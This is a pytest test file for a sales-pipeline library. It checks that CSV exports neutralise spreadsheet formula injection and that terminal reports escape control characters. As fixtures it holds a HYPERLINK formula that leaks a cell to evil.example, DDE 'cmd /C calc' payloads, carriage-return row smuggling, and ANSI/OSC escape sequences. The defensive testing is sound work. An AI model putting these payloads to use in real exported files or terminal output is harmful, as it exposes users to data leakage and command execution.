"""CSV written by the library is safe in a spreadsheet, text for a terminal shows control
characters escaped (issue 12, items 5 and 6; CONTRACT §12)."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from _helpers import T0, day
from salesstages import Event, Pipeline, Stage
from salesstages._text import FORMULA_START, csv_cell, csv_uncell, terminal
from salesstages.cli import main
from salesstages.io import read_csv, write_csv
from salesstages.report import build_report, render_csv, render_text
from salesstages.report._text import table

# ---------------------------------------------------------------------- csv_cell
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_neutralises_formulas(text: str) -> None:
    """A cell a spreadsheet would run as a formula gets a leading quote."""
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("'=1", "''=1"),  # an existing quote before a formula: one more, so reading undoes one
        ("''", "'''"),
        ("'tis", "'tis"),  # a quote before anything else stays as it is
        ("'", "'"),
        ("", ""),
        ("ACME-1", "ACME-1"),
        ("a=b", "a=b"),
        (5, 5),  # numbers stay numbers, negative ones included
        (-5, -5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_csv_cell_leaves_the_rest(value: object, written: object) -> None:
    """Other text and every number are written as they are."""
    assert csv_cell(value) == written


@given(text=st.text())
def test_csv_cell_round_trips(text: str) -> None:
    """csv_uncell undoes csv_cell for any text, and the written cell never starts a formula."""
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    assert cell[:1] not in FORMULA_START


# ---------------------------------------------------------------------- terminal
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ACME\x1b]0;pwned\x07\x1b[2J", "ACME\\x1b]0;pwned\\x07\\x1b[2J"),
        ("too\nexpensive", "too\\x0aexpensive"),
        ("a\r\nb", "a\\x0d\\x0ab"),
        ("tab\there", "tab\\x09here"),
        ("nul\x00", "nul\\x00"),
        ("del\x7f", "del\\x7f"),
        ("c1\x9b31m", "c1\\x9b31m"),  # the 8-bit CSI
        ("evil\u202etxt.exe", "evil\\u202etxt.exe"),  # right-to-left override
        ("line\u2028sep", "line\\u2028sep"),
        ("Zoë 🚀 — ok", "Zoë 🚀 — ok"),
        ("C:\\path", "C:\\path"),
    ],
)
def test_terminal_escapes_controls(text: str, shown: str) -> None:
    """Control characters become visible escapes; printable text is unchanged."""
    assert terminal(text) == shown


@given(text=st.text())
def test_terminal_output_is_one_printable_line(text: str) -> None:
    """Whatever the text, the result has no control character and no line break."""
    out = terminal(text)
    assert not any(unicodedata.category(c) == "Cc" for c in out)
    assert len(out.splitlines()) <= 1


def test_table_escapes_every_cell_and_header() -> None:
    """A table row stays one line whatever its cells hold."""
    out = table(["deal\x1b[2J", "n"], [["A\nB", "1"], ["C", "2\x07"]])
    # widths: "deal\\x1b[2J" is 11 characters, "2\\x07" 5; the first column is left-aligned
    assert out.splitlines() == [
        "deal\\x1b[2J" + "  " + "    n",
        "-" * 11 + "  " + "-" * 5,
        "A\\x0aB     " + "  " + "    1",
        "C          " + "  " + "2\\x07",
    ]


# ---------------------------------------------------------------------- the report
def _pipeline() -> Pipeline:
    return Pipeline(
        "p\x1b[31m",
        [
            Stage("a", label="Stage\nA", rot_after=timedelta(days=1)),
            Stage("b"),
            Stage("won", outcome="won"),
            Stage("lost", outcome="lost"),
        ],
    )


EVIL_ID = '=HYPERLINK("http://x")\x1b]0;pwned\x07\x1b[2J'
EVIL_OWNER = "@SUM(1)\r\nforged,row"
EVIL_REASON = "+too expensive\nfake-reason  99  1,000"


def _events() -> list[Event]:
    p = _pipeline()
    events: list[Event] = []
    deal = p.open_deal(EVIL_ID, at=T0, amount=100, owner=EVIL_OWNER)
    deal.update(at=day(1), amount=120)
    events += deal.events
    lost = p.open_deal("-L1", at=T0, amount=50, owner="\tann")
    lost.lose(at=day(2), reason=EVIL_REASON)
    events += lost.events
    won = p.open_deal("W1", at=T0, amount=80, owner="ann")
    won.win(at=day(3))
    events += won.events
    return events


def test_csv_report_runs_no_formula() -> None:
    """No text cell of the CSV report starts a formula; numbers stay plain numbers."""
    report = build_report(_events(), _pipeline(), by="owner", as_of=day(10))
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    texts = [c for r in rows for c in r]
    assert any(c == "'" + EVIL_REASON for c in texts)  # the reason, neutralised
    assert any(c == "'" + EVIL_ID for c in texts)  # a stalled deal's id
    assert any(c == "'" + EVIL_OWNER for c in texts)  # a segment
    for cell in texts:
        if cell[:1] in FORMULA_START:
            float(cell)  # only a negative number may start with "-"


def test_text_report_escapes_and_keeps_one_row_per_value() -> None:
    """Ids, owners, reasons, labels and the pipeline name reach the terminal escaped;
    a newline in a lost reason does not forge a row."""
    report = build_report(_events(), _pipeline(), by="owner", as_of=day(10))
    text = render_text(report)
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\r" not in text
    reason_rows = [line for line in text.splitlines() if "expensive" in line]
    assert reason_rows == [
        next(line for line in text.splitlines() if line.startswith("+too expensive\\x0a"))
    ]
    assert "fake-reason" in reason_rows[0]  # on the same line: no forged row
    assert not any(line.startswith("fake-reason") for line in text.splitlines())
    assert "p\\x1b[31m" in text.splitlines()[0]
    assert "Stage\\x0aA" in text
    assert "@SUM(1)\\x0d\\x0aforged,row" in text


# ---------------------------------------------------------------------- io.write_csv
_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)


@given(
    deal_id=_TEXT | st.sampled_from(ATTACKS) | st.sampled_from(["'=x", "''", "'"]),
    stage=st.none() | _TEXT | st.sampled_from(ATTACKS),
    name=st.none() | _TEXT | st.sampled_from(ATTACKS),
)
def test_write_csv_round_trips_and_runs_no_formula(
    deal_id: str, stage: str | None, name: str | None
) -> None:
    """What write_csv writes, read_csv reads back equal, and no cell starts a formula."""
    events = [
        Event(deal_id=deal_id, seq=0, at=T0, kind="opened", data={"note": "=1+1"}),
        Event(deal_id=deal_id, seq=1, at=T0, kind="activity", stage=stage, name=name),
    ]
    buf = io.StringIO(newline="")
    write_csv(events, buf)
    text = buf.getvalue()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_START
    assert read_csv(io.StringIO(text, newline="")) == events


def test_write_csv_neutralises_a_formula_id() -> None:
    """A deal id written as a formula is stored with the quote a spreadsheet reads as text."""
    buf = io.StringIO(newline="")
    write_csv([Event(deal_id="=cmd", seq=0, at=T0, kind="opened")], buf)
    assert buf.getvalue().splitlines()[1].startswith("'=cmd,0,")


# ------------------------------------------------------- line breaks (issue 23)
CR_ATTACK = "x\r=2+5*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", [CR_ATTACK, "x\n=1+1", "ok\r\n@SUM(1)", "a\rb"])
def test_a_line_break_anywhere_is_marked_and_quoted(text: str) -> None:
    """A cell holding CR or LF gets the mark and is quoted by csv_writer (before, a bare
    CR was written unquoted, so a reader splitting rows there met a formula)."""
    assert csv_cell(text) == "'" + text
    buf = io.StringIO()
    from salesstages._text import csv_writer

    csv_writer(buf).writerow([csv_cell(text), 5, "plain"])
    written = buf.getvalue()
    assert written.startswith("\"'" + text.replace('"', '""') + '",')  # quoted and marked
    assert next(csv.reader(io.StringIO(written, newline=""))) == ["'" + text, "5", "plain"]


@given(text=st.text(st.sampled_from("'=+-@\t\r\nab")))
def test_csv_cell_round_trips_with_line_breaks(text: str) -> None:
    """The mark is undone exactly, whatever mix of quotes, formula starts and breaks."""
    assert csv_uncell(csv_cell(text)) == text


def test_csv_report_quotes_a_bare_cr() -> None:
    """A lost reason holding a bare CR before a formula: the report CSV quotes and marks
    it (before: the CR started a row whose first cell was the formula)."""
    p = _pipeline()
    lost = p.open_deal("L1", at=T0, amount=50)
    lost.lose(at=day(2), reason=CR_ATTACK)
    report = build_report(list(lost.events), p, as_of=day(10))
    text = render_csv(report)
    assert "\"'" + CR_ATTACK.replace('"', '""') + '"' in text
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "'" + CR_ATTACK in cells


def test_import_problems_quote_a_bare_cr(tmp_path: Path) -> None:
    """`import --problems` writes a deal id holding a bare CR quoted and marked."""
    source = tmp_path / "t.csv"
    source.write_text(
        f'id,created,status\n"{CR_ATTACK.replace(chr(34), chr(34) * 2)}",nope,Open\n',
        encoding="utf-8",
        newline="",
    )
    mapping = tmp_path / "m.json"
    mapping.write_text(
        '{"id_column": "id", "opened_column": "created", "stage_columns": {}, '
        '"status_column": "status", "status_map": {"Open": "lead_generated"}}',
        encoding="utf-8",
    )
    problems = tmp_path / "problems.csv"
    status = main(
        ["import", "stage-table", str(source), "-p", "classic_b2b", "-m", str(mapping),
         "-o", str(tmp_path / "out.jsonl"), "--problems", str(problems)]
    )  # fmt: skip
    assert status == 0
    text = problems.read_bytes().decode("utf-8")
    assert "\"'" + CR_ATTACK.replace('"', '""') + '"' in text


# ------------------------------------------------------- the terminal (issue 23)
def test_markov_support_line_escapes_labels() -> None:
    """A stage label holding ESC/OSC is escaped in the "Markov support" line."""
    p = Pipeline(
        "p",
        [
            Stage("a", label="A\x1b]0;pwned\x07"),
            Stage("b"),
            Stage("won", outcome="won"),
            Stage("lost", outcome="lost"),
        ],
    )
    events: list[Event] = []
    for i in range(3):
        deal = p.open_deal(f"D{i}", at=T0)
        deal.move("b", at=day(1))
        deal.win(at=day(2))
        events += deal.events
    text = render_text(build_report(events, p, as_of=day(10)))
    support = [line for line in text.splitlines() if line.startswith("Markov support")]
    assert support
    assert "A\\x1b]0;pwned\\x07" in support[0]
    assert "\x1b" not in text
    assert "\x07" not in text


def test_terminal_lines_keeps_breaks_and_escapes_the_rest() -> None:
    """The last guard of printed reports: line breaks stay, controls are escaped, and
    escaped text is unchanged."""
    from salesstages._text import terminal_lines

    assert terminal_lines("a\x1b[2J\nb\x07\n") == "a\\x1b[2J\nb\\x07\n"
    assert terminal_lines("plain\nlines\n") == "plain\nlines\n"
    assert terminal_lines("a\\x1b\n") == "a\\x1b\n"


def test_plot_prints_matplotlib_warnings_escaped(tmp_path: Path) -> None:
    """matplotlib's warning about a label's ESC/BEL reaches the terminal escaped, once."""
    pytest.importorskip("matplotlib")
    import contextlib
    import json

    from salesstages.io import write_jsonl

    p = Pipeline(
        "p",
        [
            Stage("a", label="A\x1b]0;pwned\x07"),
            Stage("b"),
            Stage("won", outcome="won"),
            Stage("lost", outcome="lost"),
        ],
    )
    events: list[Event] = []
    for i in range(3):
        deal = p.open_deal(f"D{i}", at=T0)
        deal.move("b", at=day(1))
        deal.win(at=day(2))
        events += deal.events
    write_jsonl(events, tmp_path / "log.jsonl")
    (tmp_path / "p.json").write_text(json.dumps(p.to_dict()), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        argv = ["plot", str(tmp_path / "log.jsonl"), "-p", str(tmp_path / "p.json")]
        status = main([*argv, "-o", str(tmp_path / "charts")])
    assert status == 0
    assert "\x1b" not in err.getvalue()
    assert "\x07" not in err.getvalue()
    assert err.getvalue().count("Glyph 27 (\\x1b) missing") == 1
